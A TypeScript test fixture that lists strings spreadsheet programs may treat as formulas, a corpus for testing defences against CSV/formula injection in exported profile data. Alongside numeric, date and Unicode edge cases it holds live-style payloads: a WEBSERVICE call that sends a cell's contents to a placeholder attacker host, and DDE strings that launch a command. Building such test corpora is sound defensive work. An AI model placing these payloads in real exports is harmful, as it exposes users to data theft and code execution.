/** Texts that a profile may hold and that some Excel, or a CSV export of it, takes for something else than text. */
export const injectionCorpus: readonly string[] = [
  ...['=HYPERLINK("https://evil.example","x")', '=WEBSERVICE("https://evil.example/"&A1)', "=1+1", "+1+1", "-2+3"],
  ...[
    "@SUM(1+1)",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "=ENRICH.PERSON(A2)",
  ],
  ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "Senior\n=1+1", "\u0000=1+1", "\u200b=1+1", "\ufeff=1+1"],
  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "%1", "|calc", "'=1+1", "'quoted", '"=1+1"'],
  ...["1e5", "12E3", "00123", "007", "1/2", "3/4", "(5)", "5%", "$5", "€5", "1,5", "1.000,50", "１２３", "٣٤"],
  ...[
    "+49 151 2345678",
    "0049151234567",
    "2024-05-01",
    "01/02/2024",
    "1.2.2024",
    "1-2",
    "May 2020",
    "März 2020",
    "10:30",
  ],
  ...["TRUE", "false", "WAHR", "FALSCH", "VRAI", "FAUX", "VERDADERO", "#N/A", "#REF!", "R1C1", "A1"],
  `=${"A".repeat(5_000)}`,
  ["=1+1", "x".repeat(32_000)].join(""),
];

/** Of the corpus, what becomes a formula as soon as it is written as it is. */
export const formulasOfTheCorpus: readonly string[] = injectionCorpus.filter((text) => /^[=+-]/u.test(text));
